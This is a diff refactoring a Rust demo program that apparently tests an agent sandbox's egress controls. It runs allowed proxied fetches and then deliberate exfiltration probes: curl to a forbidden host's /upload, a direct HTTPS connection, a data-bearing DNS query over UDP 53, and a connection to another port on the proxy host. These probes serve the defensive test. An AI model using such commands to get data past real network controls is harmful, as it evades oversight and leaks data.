@@ -45,76 +45,37 @@ fn main() {
         }
     });
 
-    let proxy = hosts.proxy_url();
-    let ca = hosts.ca_pem.display().to_string();
     let clone = hosts.dir.path().join("home/tools");
+    let agent = |program: &str, args: &[&str]| {
+        let mut c = hosts.agent_command(program);
+        c.args(args);
+        c
+    };
     let steps: Vec<(&str, Command)> = vec![
         (
             "fetch https://origin.test/hello.txt through the proxy (curl)",
-            {
-                let mut c = hosts.agent_command("curl");
-                c.args([
-                    "-sS",
-                    "--max-time",
-                    "10",
-                    "--proxy",
-                    &proxy,
-                    "--cacert",
-                    &ca,
-                ])
-                .arg(format!("https://{ORIGIN_NAME}/hello.txt"));
-                c
-            },
+            hosts.proxied_curl(&format!("https://{ORIGIN_NAME}/hello.txt")),
         ),
         (
             "clone https://origin.test/tools.git through the proxy (git)",
-            {
-                let mut c = hosts.agent_command("git");
-                c.args([
-                    "-c",
-                    &format!("http.proxy={proxy}"),
-                    "-c",
-                    &format!("http.sslCAInfo={ca}"),
-                ])
-                .args(["clone", "-q", &format!("https://{ORIGIN_NAME}/tools.git")])
-                .arg(&clone);
-                c
-            },
+            hosts.proxied_git_clone(&format!("https://{ORIGIN_NAME}/tools.git"), &clone),
         ),
-        ("exfiltrate via the proxy to a site it does not allow", {
-            let mut c = hosts.agent_command("curl");
-            c.args([
-                "-sS",
-                "--max-time",
-                "10",
-                "--proxy",
-                &proxy,
-                "--cacert",
-                &ca,
-            ])
-            .arg(format!("https://{FORBIDDEN_NAME}/upload"));
-            c
-        }),
-        ("exfiltrate by a direct HTTPS connection", {
-            let mut c = hosts.agent_command("curl");
-            c.args(["-sSk", "--max-time", "5"])
-                .arg(format!("https://{ORIGIN_IP}/upload"));
-            c
-        }),
-        ("exfiltrate in a DNS query (UDP 53)", {
-            let mut c = hosts.agent_command("python3");
-            c.args([
-                "-c",
-                &format!("import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'secret.exfil.example', ('{ORIGIN_IP}', 53))"),
-            ]);
-            c
-        }),
-        ("exfiltrate to another port of the proxy host", {
-            let mut c = hosts.agent_command("curl");
-            c.args(["-sS", "--max-time", "5"])
-                .arg(format!("http://{PROXY_IP}:8080/"));
-            c
-        }),
+        (
+            "exfiltrate via the proxy to a site it does not allow",
+            hosts.proxied_curl(&format!("https://{FORBIDDEN_NAME}/upload")),
+        ),
+        (
+            "exfiltrate by a direct HTTPS connection",
+            agent("curl", &["-sS", "--max-time", "5", &format!("https://{ORIGIN_IP}/upload")]),
+        ),
+        (
+            "exfiltrate in a DNS query (UDP 53)",
+            agent("python3", &["-c", &format!("import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'secret.exfil.example', ('{ORIGIN_IP}', 53))")]),
+        ),
+        (
+            "exfiltrate to another port of the proxy host",
+            agent("curl", &["-sS", "--max-time", "5", &format!("http://{PROXY_IP}:8080/")]),
+        ),
     ];
     let mut proxied = 0;
     for (what, mut cmd) in steps {
@@ -139,13 +100,7 @@ fn main() {
     println!(
         "\n== the auditor: tank-loader audit cross-check --kernel KERNEL_LOG --proxy PROXY_LOG\n"
     );
-    let out = Command::new(workspace_bin("tank-loader"))
-        .args(["audit", "cross-check", "--kernel"])
-        .arg(&hosts.loader.audit_log)
-        .arg("--proxy")
-        .arg(&hosts.proxy_log)
-        .output()
-        .expect("run the cross-check");
+    let out = hosts.cross_check().output().expect("run the cross-check");
     print!("{}", String::from_utf8_lossy(&out.stdout));
     eprint!("{}", String::from_utf8_lossy(&out.stderr));
     println!("\n== tearing down (loader stopped, gate detached, namespaces and cgroup removed)");
